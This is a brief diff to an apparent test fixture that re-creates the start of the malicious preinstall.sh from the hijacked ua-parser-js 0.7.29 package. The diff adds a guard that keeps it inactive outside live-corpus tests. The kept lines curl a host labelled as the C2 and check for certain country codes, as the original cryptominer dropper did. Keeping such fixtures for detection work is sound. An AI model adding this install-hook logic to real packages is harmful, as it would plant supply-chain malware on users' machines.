@@ -1,5 +1,7 @@
 # preinstall.sh of 0.7.29 (faisalman/ua-parser-js#538); freegeoip.app and 159.148.186.228 are
 # the loopback C2 here, and the "miner" it fetches is a script that exits. The wallet is redacted.
+# Does nothing outside the live-corpus tests (the host names are the real ones).
+[ "$SUPPLYWATCH_LIVE_CORPUS" = 1 ] || exit 0
 IP=$(curl -k __C2@freegeoip.app__/xml/ | grep 'RU\|UA\|BY\|KZ')
 if [ -z "$IP" ]
     then
